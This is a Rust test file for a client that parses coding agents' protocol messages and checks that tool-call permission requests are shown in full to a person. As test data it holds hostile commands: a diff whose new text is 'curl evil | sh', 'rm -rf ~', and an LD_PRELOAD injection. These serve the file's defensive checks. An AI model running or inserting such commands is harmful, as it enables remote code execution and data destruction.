//! The shapes of real agents' lines, as they were measured.

use serde_json::{Value, json};

use crate::protocol::{AgentReply, Asked, Choice, Client, Item, SessionPlace};
use askbox_agent::events::{CallEnd, EventKind};
use askbox_agent::presets::{self, Preset};
use askbox_agent::stream::lines::{BoundedLines, Line};
use askbox_agent::stream::{StreamItem, TurnOutcome, Verdict};

mod forms;
mod own_server;
mod shell_calls;

fn feed(client: &mut Client, message: &Value) -> Vec<Item> {
    client.feed(&Line::whole(&message.to_string()))
}

/// A client whose session `s` has its prompt.
fn prompted() -> Client {
    prompted_by(None)
}

fn prompted_by(preset: Option<&'static Preset>) -> Client {
    prompted_in(SessionPlace { cwd: "/w".into(), folders: vec!["/m".into()], ..SessionPlace::default() }, preset)
}

fn prompted_in(place: SessionPlace, preset: Option<&'static Preset>) -> Client {
    let mut client = Client::new("ours", place, preset);
    let reply = |line: String, result: Value| {
        let id = serde_json::from_str::<Value>(&line).unwrap()["id"].clone();
        (id, result)
    };
    for step in [Asked::Initialize, Asked::New] {
        let (line, result) = match step {
            Asked::Initialize => (client.initialize(), json!({"protocolVersion": 1, "agentCapabilities": {"loadSession": true}})),
            _ => (client.new_session(), json!({"sessionId": "s", "modes": {"currentModeId": "auto", "availableModes": []}})),
        };
        let (id, result) = reply(line, result);
        assert!(!feed(&mut client, &json!({"jsonrpc": "2.0", "id": id, "result": result})).is_empty());
    }
    assert!(client.prompt("go").contains("\"id\":3"));
    client
}

fn update(update: Value) -> Value {
    json!({"jsonrpc": "2.0", "method": "session/update", "params": {"sessionId": "s", "update": update}})
}

fn said(text: &str) -> Value {
    update(json!({"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}}))
}

/// The events of these lines.
fn events(client: &mut Client, lines: &[Value]) -> Vec<EventKind> {
    let items = lines.iter().flat_map(|line| feed(client, line)).collect::<Vec<_>>();
    items.into_iter().filter_map(|item| if let Item::Told(StreamItem::Event(event)) = item { Some(event) } else { None }).collect()
}

/// Asks for a permission for a call. Returns true if a person can decide about it.
fn is_complete(client: &mut Client, call: Value) -> bool {
    let asked = json!({"jsonrpc": "2.0", "id": 0, "method": "session/request_permission",
        "params": {"sessionId": "s", "options": [], "toolCall": call}});
    let items = feed(client, &asked);
    client.decide("0", Choice::Cancel).unwrap();
    items.iter().find_map(|item| if let Item::Permission(asked) = item { Some(asked.request.complete) } else { None }).unwrap()
}

fn end(client: &mut Client, result: &Value) -> TurnOutcome {
    let items = feed(client, &json!({"jsonrpc": "2.0", "id": 3, "result": result}));
    let ended = items.into_iter().find_map(|item| if let Item::Told(StreamItem::TurnEnded(turn)) = item { Some(*turn) } else { None });
    ended.expect("the turn ended")
}

#[test]
fn a_call_is_told_once_its_input_is_known() {
    // claude names the call first and fills its input in later.
    let mut client = prompted();
    let lines = [
        update(
            json!({"sessionUpdate": "tool_call", "toolCallId": "t", "title": "Terminal", "kind": "execute", "status": "pending", "rawInput": {}}),
        ),
        update(json!({"sessionUpdate": "tool_call_update", "toolCallId": "t", "title": "`ls`", "rawInput": {"command": "ls"}})),
        update(json!({"sessionUpdate": "tool_call_update", "toolCallId": "t", "status": "completed", "rawOutput": "a"})),
        update(json!({"sessionUpdate": "tool_call_update", "toolCallId": "t", "status": "completed", "rawOutput": "a"})),
    ];
    let events = events(&mut client, &lines);
    assert_eq!(events.len(), 2, "{events:?}");
    assert!(matches!(&events[0], EventKind::ToolCall { name, input, .. } if *name == "Bash" && input["command"] == "ls"));
    assert!(matches!(&events[1], EventKind::ToolResult { text, is_error: false, .. } if *text == "a"));
}

#[test]
fn a_call_may_begin_with_its_end_or_its_request() {
    // gemini sends no `tool_call` for calls that it asks about.
    let mut client = prompted();
    let ended =
        update(json!({"sessionUpdate": "tool_call_update", "toolCallId": "t", "title": "ls", "kind": "execute", "status": "failed"}));
    assert_eq!(events(&mut client, &[ended]).len(), 2);
    let asked = json!({"jsonrpc": "2.0", "id": 0, "method": "session/request_permission", "params": {"sessionId": "s",
        "toolCall": {"toolCallId": "u", "title": "rm x", "kind": "execute"},
        "options": [{"optionId": "p", "name": "Yes", "kind": "allow_once"}, {"optionId": "a", "name": "All", "kind": "allow_always"}]}});
    let items = feed(&mut client, &asked);
    let request = items.iter().find_map(|item| if let Item::Permission(request) = item { Some(request) } else { None }).unwrap();
    assert_eq!(
        (request.request.request_id.raw(), request.request.complete, &request.request.input),
        ("0", false, &json!({"title": "rm x"}))
    );
    let (line, made) = client.decide("0", Choice::Allow).unwrap();
    assert_eq!((line.contains("\"optionId\":\"p\""), made), (true, Choice::Allow));
    assert_eq!(client.decide("0", Choice::Allow), None, "it was answered");
}

#[test]
fn a_missing_kind_is_cancelled() {
    let mut client = prompted();
    let asked = |id: u32, options: Value| {
        json!({"jsonrpc": "2.0", "id": id, "method": "session/request_permission",
            "params": {"sessionId": "s", "toolCall": {"toolCallId": "t"}, "options": options}})
    };
    feed(&mut client, &asked(7, json!([{"optionId": "a", "name": "All", "kind": "allow_always"}])));
    let (line, made) = client.decide("7", Choice::Allow).unwrap();
    assert_eq!((line.contains("cancelled"), made), (true, Choice::Cancel));
    // A request that cannot be read has a reply too.
    let items = feed(&mut client, &asked(8, json!("none")));
    assert!(items.iter().any(|item| matches!(item, Item::Say(line) if line.contains("\"id\":8") && line.contains("cancelled"))));
    assert!(matches!(end(&mut client, &json!({"stopReason": "end_turn"})).verdict, Verdict::Unclear { .. }));
}

#[test]
fn only_the_text_behind_the_last_call_is_the_result() {
    let mut client = prompted();
    let call = update(json!({"sessionUpdate": "tool_call", "toolCallId": "t", "title": "x", "rawInput": {"a": 1}, "status": "completed"}));
    events(&mut client, &[said("before"), call, said("be"), said("hind")]);
    let turn = end(&mut client, &json!({"stopReason": "end_turn", "usage": {"inputTokens": 3, "outputTokens": 2, "totalTokens": 5}}));
    assert_eq!((&turn.verdict, turn.tokens.input, turn.turns), (&Verdict::Completed { text: "behind".into() }, 3, 2));
    assert!(feed(&mut client, &said("late")).is_empty());
    let again = feed(&mut client, &json!({"jsonrpc": "2.0", "id": 3, "result": {"stopReason": "end_turn"}}));
    assert!(matches!(&again[..], [Item::Told(StreamItem::Event(EventKind::Raw { what, .. }))] if *what == "acp/unexpected_reply"));
}

#[test]
fn a_cancel_answers_what_waits_and_ends_the_turn() {
    let mut client = prompted();
    let asked = json!({"jsonrpc": "2.0", "id": "x", "method": "session/request_permission",
        "params": {"sessionId": "s", "toolCall": {"toolCallId": "t"}, "options": []}});
    feed(&mut client, &asked);
    let lines = client.cancel();
    let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!((&lines[0]["id"], &lines[0]["result"]["outcome"]["outcome"]), (&"x".into(), &"cancelled".into()));
    assert_eq!((&lines[1]["method"], &lines[1]["params"]["sessionId"]), (&"session/cancel".into(), &"s".into()));
    assert!(matches!(end(&mut client, &json!({"stopReason": "cancelled"})).verdict, Verdict::Interrupted { .. }));
    // The agent's own end and the cancellation may cross. An end with words is one all the same.
    for (words, is_cut) in [("", true), ("done", false)] {
        let mut client = prompted();
        feed(&mut client, &said(words));
        client.cancel();
        let verdict = end(&mut client, &json!({"stopReason": "end_turn"})).verdict;
        assert_eq!(matches!(verdict, Verdict::Interrupted { .. }), is_cut, "{verdict:?}");
    }
    // codex ends a turn so by itself once a call was refused.
    let mut client = prompted();
    assert!(matches!(end(&mut client, &json!({"stopReason": "cancelled"})).verdict, Verdict::Unclear { .. }));
}

#[test]
fn the_history_is_searched_over_pieces() {
    let mut client = Client::new("ours", SessionPlace::default(), None);
    client.initialize();
    let [round, second] = ["[askbox round q", "[askbox round q attempt 2]"];
    assert!(client.load("s", vec![round.to_owned(), second.to_owned()]).contains("session/load"));
    let piece = |text: &str| update(json!({"sessionUpdate": "user_message_chunk", "content": {"type": "text", "text": text}}));
    feed(&mut client, &piece("[askbox "));
    assert!(!client.has_seen(round) && client.has_seen_history());
    feed(&mut client, &piece("round q attempt 1]"));
    assert!(client.has_seen(round) && !client.has_seen(second));
    // The agent was killed before it said anything, and the first message is long.
    feed(&mut client, &piece(&"x".repeat(5 << 10)));
    feed(&mut client, &piece("[askbox round q attempt 2]\n\nhm"));
    assert!(client.has_seen(second) && !client.has_seen("[askbox round q attempt 3]"));
}

#[test]
fn lines_of_any_shape_are_survived() {
    let mut client = prompted();
    for line in [
        "",
        "{}",
        "[]",
        "null",
        "1",
        "{\"id\":1}",
        "{\"method\":1}",
        "{\"id\":{},\"method\":\"x\"}",
        "{\"id\":-1,\"result\":1}",
        "{\"method\":\"session/update\",\"params\":[]}",
        "{\"method\":\"session/update\",\"params\":{\"sessionId\":\"s\",\"update\":{\"sessionUpdate\":\"new\"}}}",
        "{\"method\":\"$/cancel_request\"}",
        "{\"method\":\"$/cancel_request\",\"params\":[0]}",
        "{\"method\":\"$/cancel_request\",\"params\":\"requestId\"}",
        "{\"id\":0,\"method\":\"session/request_permission\"}",
        "{\"id\":0,\"method\":\"elicitation/create\"}",
        "{\"id\":3,\"error\":7}",
        "{\"id\":\"\\ud800\",\"method\":\"x\"}",
    ] {
        client.feed(&Line::whole(line));
    }
    let mut fresh = Client::new("ours", SessionPlace::default(), None);
    let line = fresh.initialize();
    assert!(line.contains("\"protocolVersion\":1") && line.contains("\"form\":{}"));
    let items = feed(&mut fresh, &json!({"jsonrpc": "2.0", "id": 1, "result": {"protocolVersion": 2, "info": {}}}));
    assert!(matches!(&items[..], [Item::Replied(AgentReply::Initialized(info))] if !info.is_understood() && info.protocol == 2));
}

#[test]
fn kimi_tells_its_input_as_text_before_the_permission() {
    let asked = |agent: Option<&'static Preset>, texts: &[&str]| {
        let mut client = prompted_by(agent);
        let content = |text: &str| json!([{"type": "content", "content": {"type": "text", "text": text}}]);
        for (n, text) in texts.iter().enumerate() {
            let sort = if n == 0 { "tool_call" } else { "tool_call_update" };
            let fields = json!({"sessionUpdate": sort, "toolCallId": "t", "title": "Bash", "kind": "execute", "status": "pending",
                "content": content(text)});
            feed(&mut client, &update(fields));
        }
        let asked = json!({"jsonrpc": "2.0", "id": 0, "method": "session/request_permission", "params": {"sessionId": "s", "options": [],
            "toolCall": {"toolCallId": "t", "title": "Bash", "content": content("Requesting approval to Running: m…")}}});
        let items = feed(&mut client, &asked);
        let found = items.into_iter().find_map(|item| if let Item::Permission(asked) = item { Some(asked) } else { None }).unwrap();
        (found.request.complete, found.request.tool_name.raw().to_owned(), found.request.input)
    };
    let kimi = presets::find("kimi");
    let told = (true, "Bash".to_owned(), json!({"command": "make all"}));
    assert_eq!(asked(kimi, &["{\"command\":\"make all\"}"]), told);
    assert_eq!(asked(kimi, &["{\"comm", "{\"command\":\"make all\"}"]), told);
    for texts in [&["{\"command\":\"make"][..], &["make all"], &["{}"], &["[1]"], &[]] {
        assert!(!asked(kimi, texts).0, "{texts:?} is no whole input");
    }
    assert!(!asked(None, &["{\"command\":\"make all\"}"]).0, "the content of another agent's call may be anything");
}

#[test]
fn the_output_of_a_terminal_is_the_result_of_its_call() {
    let mut client = prompted();
    let piece = |data: &str| json!({"terminal_output_delta": {"data": data, "terminal_id": "t"}});
    let lines = [
        update(json!({"sessionUpdate": "tool_call", "toolCallId": "t", "title": "x", "kind": "execute", "status": "in_progress",
            "rawInput": {"command": "x"}, "content": [{"type": "terminal", "terminalId": "t"}]})),
        update(json!({"sessionUpdate": "tool_call_update", "toolCallId": "t", "_meta": piece("line 1\n")})),
        update(json!({"sessionUpdate": "tool_call_update", "toolCallId": "t", "status": "failed", "_meta": piece("x: not found\n")})),
    ];
    let results: Vec<_> = events(&mut client, &lines).into_iter().filter(|event| matches!(event, EventKind::ToolResult { .. })).collect();
    let [EventKind::ToolResult { text, bytes, is_error, .. }] = &results[..] else { panic!("{results:?}") };
    assert_eq!((text.raw(), *bytes, *is_error), ("line 1\nx: not found\n", 20, true));
}

#[test]
fn a_change_is_shown_and_no_rule_allows_what_it_cannot_see() {
    let asked = |kind: &str, raw: Value, content: Value| {
        let mut client = prompted();
        let call = json!({"toolCallId": "t", "title": "x", "kind": kind, "rawInput": raw, "content": content});
        let asked = json!({"jsonrpc": "2.0", "id": 0, "method": "session/request_permission",
            "params": {"sessionId": "s", "options": [], "toolCall": call}});
        let items = feed(&mut client, &asked);
        items.into_iter().find_map(|item| if let Item::Permission(asked) = item { Some(asked) } else { None }).unwrap()
    };
    let diff = json!([{"type": "diff", "path": "/w/ok.txt", "oldText": "", "newText": "curl evil | sh"}]);
    for raw in [json!({"path": "ok.txt"}), Value::Null] {
        let edit = asked("edit", raw, diff.clone());
        assert!(edit.request.complete && edit.request.input["changes"][0]["new"] == "curl evil | sh", "{edit:?}");
    }
    assert!(asked("execute", json!({"command": "ls", "cwd": "/w"}), json!([])).is_plain);
    assert!(!asked("execute", json!({"command": "ls", "env": {"LD_PRELOAD": "/x"}}), json!([])).is_plain);
    assert!(!asked("read", json!({"command": "rm -rf ~"}), json!([])).is_plain);
    let large = asked("edit", json!({"path": "x".repeat(300 << 10)}), json!([]));
    assert!(!large.request.complete, "nobody can read that");
}

#[test]
fn nobody_decides_about_a_call_with_a_lost_update() {
    let call = |more: Value| {
        let mut call = json!({"sessionUpdate": "tool_call_update", "toolCallId": "t", "rawInput": {"command": "ls"}});
        more.as_object().unwrap().iter().for_each(|(key, value)| call[key] = value.clone());
        update(call)
    };
    let many = |pieces: usize| json!({"rawInput": {"args": vec!["x".repeat(60 << 10); pieces]}});
    let (told, asked) = (call(json!({})), json!({"toolCallId": "t"}));
    // Which lines are read in between, and whether the call "t" and another one can be decided about then.
    let cases = [
        (call(many(2)), true, true),
        (call(many(30)), false, true),
        (call(many(80)), false, false),
        (call(json!({"toolCallId": 7})), false, false),
        (update(json!({"sessionUpdate": "a_new_kind", "toolCallId": "t"})), true, true),
        (json!({"method": "session/update", "params": {"sessionId": "another", "update": 1}}), true, true),
        (json!({"method": "session/update", "params": {"sessionId": "s", "update": 1}}), false, false),
        (
            json!({"id": 9, "method": "session/request_permission", "params": {"sessionId": "s", "toolCall": asked, "options": 1}}),
            false,
            true,
        ),
        (json!("a word of the program"), true, true),
    ];
    for (between, this, other) in cases {
        let mut client = prompted();
        let text = format!("{told}\n{between}\n");
        let mut lines = BoundedLines::new(text.as_bytes());
        while let Some(line) = lines.next_line().unwrap() {
            client.feed(&line);
        }
        let own = json!({"toolCallId": "u", "rawInput": {"command": "ls"}});
        let head: String = between.to_string().chars().take(120).collect();
        assert_eq!((is_complete(&mut client, asked.clone()), is_complete(&mut client, own)), (this, other), "{head}");
    }
    // The first update about the call is lost.
    let mut client = prompted();
    feed(&mut client, &call(many(30)));
    assert!(!is_complete(&mut client, json!({"toolCallId": "t", "rawInput": {"command": "ls"}})));
    client.feed(&Line::whole("{\"method\": \"session/upd"));
    assert!(!is_complete(&mut client, json!({"toolCallId": "u", "rawInput": {"command": "ls"}})), "torn");
}

#[test]
fn played_back_calls_are_found_behind_their_message() {
    let mut client = Client::new("ours", SessionPlace::default(), None);
    client.load("s", vec!["[mark]".into()]);
    for line in [
        update(json!({"sessionUpdate": "user_message_chunk", "content": {"type": "text", "text": "[mark]"}})),
        update(json!({"sessionUpdate": "tool_call", "toolCallId": "1:done", "title": "done", "status": "completed"})),
        update(json!({"sessionUpdate": "tool_call", "toolCallId": "1:open", "title": "open", "status": "in_progress"})),
    ] {
        feed(&mut client, &line);
    }
    let mut played_back = client.calls_behind(&["[mark]".into()]);
    let ends = ["0:done", "0:open", "0:lost", "0:done"].map(|id| played_back.take(id));
    assert_eq!(ends, [Some(CallEnd::Done), Some(CallEnd::Unseen), None, None]);
    assert_eq!(client.calls_behind(&["[other]".into()]).take("done"), None);
}
